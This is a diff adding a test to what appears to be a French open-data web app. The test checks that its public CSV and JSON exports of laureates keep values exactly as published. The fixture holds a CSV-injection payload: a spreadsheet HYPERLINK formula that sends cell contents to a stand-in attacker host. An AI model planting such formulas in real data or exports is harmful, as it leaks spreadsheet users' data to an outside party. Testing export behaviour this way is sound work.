@@ -228,3 +228,15 @@ def test_ical_feed_of_call_deadlines(client):
     assert f"UID:call-{call.pk}-deadline@testserver\r\n" in unfolded
     assert "Appel caché" not in unfolded
     assert unfolded.count("BEGIN:VEVENT") == unfolded.count("END:VEVENT") == 1
+
+
+def test_csv_keeps_a_carrier_that_looks_like_a_formula_as_published(client):
+    """Open data stays faithful (docs/open-data.md): the CSV and the JSON give the value
+    exactly as published, where the staff's spreadsheet exports neutralise it."""
+    formula = '=HYPERLINK("http://evil.invalid/?x="&A1,"Cliquez ici")'
+    LaureateFactory(slug="piege", carrier=formula, name="@Piège")
+    text = client.get(reverse("open_data:laureates_csv")).content.decode("utf-8")
+    (row,) = csv.DictReader(io.StringIO(text))
+    record = json.loads(client.get(reverse("open_data:laureates_json")).content)["laureats"][0]
+    assert (row["porteur"], row["nom"]) == (formula, "@Piège")
+    assert (record["porteur"], record["nom"]) == (formula, "@Piège")
